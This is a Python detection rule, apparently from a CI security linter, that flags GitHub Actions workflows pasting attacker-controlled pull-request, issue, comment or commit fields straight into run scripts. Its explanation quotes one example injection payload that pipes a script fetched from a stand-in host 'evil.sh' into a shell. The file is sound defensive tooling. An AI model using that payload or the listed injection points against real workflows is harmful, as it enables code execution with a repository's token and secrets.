"""ci.script-injection: attacker-controlled GitHub context interpolated straight into a shell/script."""
from __future__ import annotations

import re
from collections.abc import Iterator

from checks.model import Hit
from checks.ci._ci import action_name, gha_steps, is_action_file, locate, value_line
from checks.registry import Context, Example, rule
from checks.source import SourceFile

_EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.S)
# Context paths an outside contributor controls (normalised: lower-case, `['x']` -> `.x`, `[0]` -> `.*`).
_TAINTED = re.compile(
    r"github\.(?:"
    r"head_ref"
    r"|event\.(?:"
    r"pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|pull_request_target\.(?:title|body)"
    r"|issue\.(?:title|body)"
    r"|discussion\.(?:title|body)"
    r"|comment\.body"
    r"|review\.body"
    r"|review_comment\.body"
    r"|pages\.\*\.page_name"
    r"|commits\.\*\.(?:message|author\.email|author\.name)"
    r"|head_commit\.(?:message|author\.email|author\.name|committer\.email|committer\.name)"
    r"|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.email|author\.name)"
    r"|pull_requests\.\*\.head\.ref)"
    r"))(?![\w-])"
)


def _normalise(expr: str) -> str:
    e = expr.lower()
    e = re.sub(r"""\[\s*['"]([\w-]+)['"]\s*\]""", r".\1", e)
    e = re.sub(r"\[\s*(\d+|\*)\s*\]", ".*", e)
    e = re.sub(r"\.\d+(?=\.)", ".*", e)
    return e


def tainted_in(text: str) -> list[tuple[str, str]]:
    """(whole `${{ }}` expression, tainted context path) pairs found in `text`."""
    out = []
    for m in _EXPR.finditer(text):
        t = _TAINTED.search(_normalise(m.group(1)))
        if t:
            out.append((m.group(0), t.group(0)))
    return out


@rule(
    "ci.script-injection",
    severity="HIGH",
    area="ci",
    title="Untrusted GitHub context interpolated into a run script",
    why="`${{ }}` expressions are pasted into the script before the shell runs it, so a pull-request "
        "title, branch name or comment such as `\"; curl evil.sh | sh; \"` executes with the "
        "workflow's token and secrets.",
    fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
        "and use `\"$TITLE\"` in the script; in github-script read `context.payload` instead.",
    kinds={"gha", "yaml"},  # yaml: composite actions (`action.yml`) run steps too
    prefilter=("${{",),
    example=Example(
        path=".github/workflows/triage.yml",
        bad="on: pull_request\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: |\n          echo \"Title ${{ github.event.pull_request.title }}\"\n",
        good="on: pull_request\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
             "      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n"
             "        run: echo \"Title $TITLE\"\n",
    ),
)
def check(f: SourceFile, ctx: Context) -> Iterator[Hit]:
    if "gha" not in f.kinds and not is_action_file(f.path):
        return
    for doc in f.yaml_docs:
        for _job, _j, step in gha_steps(doc):
            targets = []
            if isinstance(step.get("run"), str):
                targets.append((step, "run", "run step"))
            if action_name(step.get("uses")) == "actions/github-script":
                w = step.get("with")
                if isinstance(w, dict) and isinstance(w.get("script"), str):
                    targets.append((w, "script", "github-script `script:`"))
            for holder, key, where in targets:
                value = holder[key]
                if "${{" not in value:
                    continue
                start = value_line(holder, key)
                by_line: dict[int, list[tuple[str, str]]] = {}
                counts: dict[str, int] = {}
                for expr, path in tainted_in(value):
                    nth = counts.get(expr, 0)
                    counts[expr] = nth + 1
                    by_line.setdefault(locate(f, start, expr, nth), []).append((expr, path))
                for line, found in sorted(by_line.items()):
                    paths = ", ".join(dict.fromkeys(f"`{p}`" for _e, p in found))
                    yield Hit(line, message=f"{paths} is interpolated directly into a {where} "
                                            f"(`{found[0][0].strip()}`); an attacker-chosen value runs as code")
